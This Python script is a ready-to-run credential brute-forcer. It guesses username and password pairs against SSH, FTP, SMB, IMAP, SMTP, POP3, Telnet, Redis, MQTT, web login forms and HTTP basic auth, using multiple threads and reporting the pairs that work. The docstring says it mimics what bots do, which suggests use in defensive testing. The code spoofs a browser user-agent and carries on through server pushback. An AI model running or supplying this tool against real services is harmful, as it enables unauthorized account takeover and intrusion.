"""Guesses passwords of a service: what the many small scripts and bots do. Works until the lists or its time are at an end.

Call: guess.py --kind KIND --host H --port P --users FILE --words FILE --threads N --pause-ms MS --secs S
Kinds: ssh, ftp, smb, imap, telnet, smtp, pop3, redis, mqtt, form:PATH, basic:PATH.
"""

import argparse
import base64
import ftplib
import http.client
import imaplib
import logging
import poplib
import smtplib
import socket
import struct
import threading
import time
from urllib.parse import urlencode

TIMEOUT = 8


def ssh(args, user, word):
    import paramiko

    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        client.connect(args.host, args.port, user, word, timeout=TIMEOUT, banner_timeout=TIMEOUT, auth_timeout=TIMEOUT,
                       look_for_keys=False, allow_agent=False)
        return True
    except paramiko.AuthenticationException:
        return False
    finally:
        client.close()


def ftp(args, user, word):
    client = ftplib.FTP(timeout=TIMEOUT)
    client.connect(args.host, args.port)
    try:
        client.login(user, word)
        return True
    except ftplib.error_perm:
        return False
    finally:
        client.close()


def smb(args, user, word):
    from impacket.smbconnection import SessionError, SMBConnection

    client = SMBConnection(args.host, args.host, sess_port=args.port, timeout=TIMEOUT)
    try:
        return client.login(user, word)
    except SessionError:
        return False
    finally:
        client.close()


def imap(args, user, word):
    client = imaplib.IMAP4(args.host, args.port, timeout=TIMEOUT)
    try:
        client.login(user, word)
        return True
    except imaplib.IMAP4.error:
        return False
    finally:
        client.shutdown()


def smtp(args, user, word):
    with smtplib.SMTP(args.host, args.port, local_hostname="localhost", timeout=TIMEOUT) as client:
        try:
            client.login(user, word)
            return True
        except smtplib.SMTPAuthenticationError:
            return False


def pop3(args, user, word):
    client = poplib.POP3(args.host, args.port, timeout=TIMEOUT)
    try:
        client.user(user)
        client.pass_(word)
        return True
    except poplib.error_proto:
        return False
    finally:
        client.close()


def telnet(args, user, word):
    with socket.create_connection((args.host, args.port), TIMEOUT) as connection:
        said = b""
        for wanted, answer in ((b"ogin:", user), (b"assword:", word), (b"", "")):
            while wanted and wanted not in said:
                more = connection.recv(1024)
                if not more:
                    return False
                said += more
            said = b"" if wanted else said
            if answer:
                connection.sendall(answer.encode() + b"\r\n")
        connection.settimeout(3)
        try:
            said = connection.recv(1024) + connection.recv(1024)
        except TimeoutError:
            pass
        return b"# " in said


def redis(args, _, word):
    with socket.create_connection((args.host, args.port), TIMEOUT) as connection:
        connection.sendall(f"*2\r\n$4\r\nAUTH\r\n${len(word)}\r\n{word}\r\n".encode())
        return connection.recv(256).startswith(b"+OK")


def mqtt(args, user, word):
    def text(value):
        return struct.pack("!H", len(value)) + value.encode()

    body = text("MQTT") + b"\x04\xc2\x00\x3c" + text("client-" + user) + text(user) + text(word)
    with socket.create_connection((args.host, args.port), TIMEOUT) as connection:
        connection.sendall(b"\x10" + bytes([len(body)]) + body)
        answer = connection.recv(4)
        return len(answer) == 4 and answer[3] == 0


def form(args, user, word):
    client = http.client.HTTPConnection(args.host, args.port, timeout=TIMEOUT)
    body = urlencode({"username": user, "password": word})
    client.request("POST", args.path, body, {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": AGENT})
    answer = client.getresponse()
    answer.read()
    client.close()
    return answer.status == 302


def basic(args, user, word):
    client = http.client.HTTPConnection(args.host, args.port, timeout=TIMEOUT)
    token = base64.b64encode(f"{user}:{word}".encode()).decode()
    client.request("GET", args.path, headers={"Authorization": "Basic " + token, "User-Agent": AGENT})
    answer = client.getresponse()
    answer.read()
    client.close()
    return answer.status == 200


AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36"


def work(args, guesses, lock, end):
    guess = globals()[args.kind]
    while time.monotonic() < end:
        with lock:
            pair = next(guesses, None)
        if pair is None:
            return
        try:
            print(*pair, "RIGHT" if guess(args, *pair) else "wrong", flush=True)
        except Exception as error:  # Whatever a server does to be rid of us, we go on.
            print(*pair, type(error).__name__, error, flush=True)
            time.sleep(0.3)
        time.sleep(args.pause_ms / 1000)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--kind", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--users", required=True)
    parser.add_argument("--words", required=True)
    parser.add_argument("--threads", type=int, default=1)
    parser.add_argument("--pause-ms", type=float, default=0)
    parser.add_argument("--secs", type=float, default=55)
    args = parser.parse_args()
    args.kind, _, args.path = args.kind.partition(":")
    users, words = (open(path, encoding="utf-8").read().split() for path in (args.users, args.words))
    guesses = ((user, word) for word in words for user in users)
    lock, end = threading.Lock(), time.monotonic() + args.secs
    threads = [threading.Thread(target=work, args=(args, guesses, lock, end)) for _ in range(args.threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


main()
